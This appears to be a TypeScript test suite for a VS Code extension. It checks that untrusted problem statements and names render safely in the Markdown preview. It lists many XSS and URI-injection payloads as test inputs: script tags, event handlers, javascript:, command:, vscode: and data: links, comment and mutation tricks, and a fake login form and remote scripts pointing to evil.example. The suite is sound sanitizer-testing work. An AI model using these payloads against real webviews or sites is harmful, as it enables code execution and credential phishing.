// Problem statements (and names) are written by other people. Whatever they hold, the details
// document must render, in the Markdown preview's own parser, to plain formatting only: no
// scripts, no event handlers, no styles, no frames or forms, and no link or image whose URL could
// run code or a VS Code command (javascript:, command:, vscode:, data:text/html...). Each case
// is checked for those properties rather than for an exact output.
import * as assert from 'node:assert/strict';
import type { Problem } from '../../../src/api';
import { renderProblemMarkdown } from '../../../src/core/problems';
import { renderLikePreview, unsafeParts } from './preview-safety';

const RUN = 'workbench.action.terminal.new';

/** [what, statement] — every statement is a problem's description. */
const STATEMENTS: [string, string][] = [
  // Scripts.
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, odd casing', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script tag split by another', '<scr<script>ipt>alert(1)</script>'],
  ['script tag joined when the inner one is removed', '<scr<script></script>ipt>alert(1)</scr<script></script>ipt>'],
  ['script tag joined when an unknown tag is removed', '<<x>script>alert(1)<</x>/script>'],
  ['script tag with a slash', '<script/x>alert(1)</script>'],
  ['script tag never closed', '<p>a</p><script>alert(1)'],
  ['remote script', '<script src=https://evil.example/x.js></script>'],
  // Event handlers.
  ['onerror unquoted', '<img src=x onerror=alert(1)>'],
  ['onerror double quoted', '<img src="x" onerror="alert(1)">'],
  ['onerror single quoted', "<img src='x' onerror='alert(1)'>"],
  ['onload on body', '<body onload=alert(1)>x</body>'],
  ['attributes split by slashes', '<img/src=x/onerror=alert(1)>'],
  ['attributes split by newline and tab', '<img\nsrc=x\tonerror=alert(1)>'],
  ['handler with spaces around =', '<p onclick = "alert(1)" >x</p>'],
  ['handler after a slash', "<div/onmouseover='alert(1)'>x</div>"],
  ['handler beside a kept link', '<a href="https://ok.example/" title=\'x\' onclick="alert(1)">x</a>'],
  ['handler after a > inside a quoted value', '<a title="x>y" onclick="alert(1)" href="https://ok.example/">x</a>'],
  ['handler hidden in a quoted value', '<a title=\'" onclick="alert(1)\' href="https://ok.example/">x</a>'],
  // javascript: links.
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: link, upper case', '<a href="JAVASCRIPT:alert(1)">x</a>'],
  ['javascript: link, unquoted', '<a href=javascript:alert(1)>x</a>'],
  ['javascript: link, decimal entity', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['javascript: link, entity without ;', '<a href="&#106avascript:alert(1)">x</a>'],
  ['javascript: link, hex entities', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
  ['javascript: link, named entities', '<a href="javascript&colon;alert(1)">x</a>'],
  ['javascript: link, tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript: link, newline inside', '<a href="java\nscript:alert(1)">x</a>'],
  ['javascript: link, tab entity inside', '<a href="java&#9;script:alert(1)">x</a>'],
  ['javascript: link, NUL inside', '<a href="java\0script:alert(1)">x</a>'],
  ['javascript: link, leading space and control', '<a href=" \u0001javascript:alert(1)">x</a>'],
  ['javascript: image', '<img src="javascript:alert(1)">'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  // VS Code URIs.
  ['command: link', `<a href="command:${RUN}">x</a>`],
  ['command: link with arguments', '<a href="command:sphereEngine.submit?%5B1%5D">x</a>'],
  ['command: link, upper case', `<a href="COMMAND:${RUN}">x</a>`],
  ['command: link, entity', `<a href="&#99;ommand:${RUN}">x</a>`],
  ['command: image', `<img src="command:${RUN}">`],
  ['vscode: link', '<a href="vscode:extension/evil.ext">x</a>'],
  ['vscode-insiders: link', '<a href="vscode-insiders://evil.ext/x">x</a>'],
  ['vscode-file: link', '<a href="vscode-file://vscode-app/etc/passwd">x</a>'],
  ['file: link', '<a href="file:///etc/passwd">x</a>'],
  // data:
  ['data:text/html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data:text/html base64 link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  // SVG and MathML.
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg/onload', '<svg/onload=alert(1)>'],
  ['svg link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg image, base64', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg image, inline', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['svg image, entity in the type', '<img src="data:image/&#115;vg+xml;base64,PHN2Zz4=">'],
  ['mathml confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  // Forms.
  ['form', '<form action="https://evil.example/"><input name=password><button>Log in</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['input formaction', '<input type=image src=x formaction=javascript:alert(1)>'],
  ['isindex', '<isindex action=javascript:alert(1) type=image>'],
  // Frames and plugins.
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  // Document-level tags.
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//"><a href="x">x</a>'],
  ['stylesheet link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  // CSS.
  ['style expression()', '<p style="width:expression(alert(1))">x</p>'],
  ['style url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Session expired, <a href="https://evil.example/login">log in</a></div>'],
  ['style block', '<style>body{display:none}</style><p>x</p>'],
  ['style block with @import', "<style>@import 'https://evil.example/x.css';</style>"],
  ['style tag joined when the inner one is removed', '<sty<style></style>le>body{display:none}</style>'],
  // Comments and CDATA.
  ['comment closed by <!-->', '<!--><script>alert(1)</script>-->'],
  ['comment closed by <!--> only', '<!--><img src=x onerror=alert(1)>'],
  ['comment closed by --!>', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['comment never closed', '<!-- <a href="javascript:alert(1)">x</a>'],
  ['comments around a script', '<!--<script>-->alert(1)<!--</script>-->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['CDATA hiding a tag', '<![CDATA[ ]]><img src=x onerror=alert(1)>'],
  ['processing instruction', '<? <img src=x onerror=alert(1)> ?>'],
  // Markdown inside an HTML statement (the text between tags is Markdown to the preview).
  ['HTML, then a Markdown command: link', `<p>Read this</p>\n\n[x](command:${RUN})`],
  ['HTML, then a Markdown javascript: link on the same line', '<b>Note</b> [x](javascript:alert(1))'],
  ['HTML, then a Markdown command: image', `<b>Note</b> ![x](command:${RUN})`],
  ['HTML, then a Markdown reference link', `<b>x</b>\n\n[x][r]\n\n[r]: command:${RUN}`],
  ['HTML, then a Markdown link with an entity', `<b>x</b> [x](&#99;ommand:${RUN})`],
  ['HTML, then a Markdown vscode: link', '<b>x</b> [x](vscode:extension/evil.ext)'],
  ['HTML, then a Markdown data: link', '<b>x</b> [x](data:text/html,x)'],
  ['HTML, then an autolink', `<b>x</b> <command:${RUN}>`],
  ['HTML, then a Markdown link with spaces', '<b>x</b> [x]( javascript:alert(1) )'],
  // Markdown statements (no HTML).
  ['Markdown command: link', `[x](command:${RUN})`],
  ['Markdown javascript: link', '[x](javascript:alert(1))'],
  ['Markdown command: image', `![x](command:${RUN})`],
  ['Markdown reference link', `[x][r]\n\n[r]: command:${RUN}`],
  ['Markdown link with an entity', `[x](&#99;ommand:${RUN})`],
  ['Markdown vscode: link', '[x](vscode:extension/evil.ext)'],
  ['Markdown data: link', '[x](data:text/html,x)'],
  ['Markdown autolink', `<command:${RUN}>`],
  ['bare command: URI', `Run command:${RUN} now`],
];

/** [what, problem fields] — names and judge names reach the same document. */
const NAMES: [string, Partial<Problem>][] = [
  ['command: link in the name', { name: `[x](command:${RUN})` }],
  ['javascript: image in the code', { code: '![x](javascript:alert(1))' }],
  ['HTML in the name', { name: '<img src=x onerror=alert(1)>' }],
  ['command: link in the master judge name', { masterjudge: { id: 1000, name: `[x](command:${RUN})` } }],
];

function problem(fields: Partial<Problem>): Problem {
  return { id: 1, code: 'ADD', name: 'Add', body: 'Add.', shortBody: null, type: { id: 0, name: 'binary' }, ...fields } as Problem;
}

function assertSafe(fields: Partial<Problem>): void {
  const html = renderLikePreview(renderProblemMarkdown(problem(fields), [{ number: 0, judge: { id: 1, name: fields.name ?? 'judge' } }]));
  assert.deepEqual(unsafeParts(html), [], html);
}

describe('problems render: untrusted statements', () => {
  for (const [what, body] of STATEMENTS) it(what, () => assertSafe({ body }));
  for (const [what, fields] of NAMES) it(what, () => assertSafe(fields));

  it('keeps formatting, safe links and the text around what it removes', () => {
    const html = renderLikePreview(
      renderProblemMarkdown(
        problem({
          body: '<p>Sum <b>a</b> &amp; <i>b</i><script>alert(1)</script>, see <a href="https://ok.example/?a=1&amp;b=2" onclick="x()">docs</a> [1]</p>',
        }),
        [],
      ),
    );
    assert.match(html, /<p>Sum <b>a<\/b> &amp; <i>b<\/i>, see <a href="https:\/\/ok\.example\/\?a=1&amp;b=2">docs<\/a> (\[|&#91;)1(\]|&#93;)<\/p>/);
  });
});
